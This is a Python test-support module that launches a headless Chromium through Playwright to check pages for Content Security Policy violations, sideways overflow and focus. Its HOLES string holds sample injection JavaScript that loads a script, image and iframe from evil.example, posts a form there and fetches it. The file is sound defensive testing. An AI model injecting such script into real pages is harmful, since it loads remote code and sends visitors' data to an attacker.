"""A headless Chromium of this machine, kept from everything but this machine; tests that need one skip without it."""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

_playwright = pytest.importorskip("playwright.sync_api", reason="needs playwright")
expect = _playwright.expect
PLACE = Path("/usr/bin/chromium")
NEEDS_CHROMIUM = pytest.mark.skipif(not PLACE.exists(), reason=f"needs a Chromium at {PLACE}")
_ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
_LISTENING = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
"""


@contextmanager
def chromium() -> Iterator[Browser]:
    """Run a browser until the block ends."""
    with _playwright.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=PLACE, args=_ARGUMENTS)
        try:
            yield browser
        finally:
            browser.close()


@dataclass
class Tab:
    """A page, and what it did beside being shown."""

    page: Page
    reported: list[str] = field(default_factory=list[str])

    @property
    def violations(self) -> list[str]:
        """What the page tried against its policy."""
        found: list[str] = self.page.evaluate("window.violations")
        return found

    @property
    def overflows(self) -> bool:
        """Whether a reader has to scroll sideways."""
        return bool(self.page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"))

    @contextmanager
    def media(self, **features: Any) -> Iterator[None]:
        """Show the page to a reader with these wishes until the block ends."""
        self.page.emulate_media(**features)
        try:
            yield
        finally:
            self.page.emulate_media(**dict.fromkeys(features, "null"))

    def focused(self) -> str:
        """Return what has the focus: an element's value, name or tag."""
        found: str = self.page.evaluate("(e => e.value || e.name || e.tagName)(document.activeElement)")
        return found


@contextmanager
def tab(browser: Browser, width: int = 1000, height: int = 800, **context: Any) -> Iterator[Tab]:
    """Open a window with a page that listens to what it must not do, and close it again."""
    opened = browser.new_context(viewport={"width": width, "height": height}, **context)
    try:
        page = opened.new_page()
        page.set_default_timeout(10_000)
        shown = Tab(page)
        page.add_init_script(_LISTENING)
        page.on("console", lambda said: shown.reported.append(said.text))
        page.on("pageerror", lambda error: shown.reported.append(str(error)))
        page.on("dialog", lambda dialog: shown.reported.append(dialog.message))
        yield shown
    finally:
        opened.close()


HOLES = """
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    add("script", {textContent: "window.ran = true"});
    add("script", {src: "https://evil.example/x.js"});
    add("img", {src: "https://evil.example/x.png"});
    add("iframe", {src: "https://evil.example/"});
    add("style", {textContent: "main { display: none }"});
    add("form", {id: "away", method: "post", action: "https://evil.example/"});
    document.getElementById("away").submit();
    fetch("https://evil.example/").catch(() => 0);
    """
"""What a hole in a page would let an attacker do. A policy must stop each of them."""
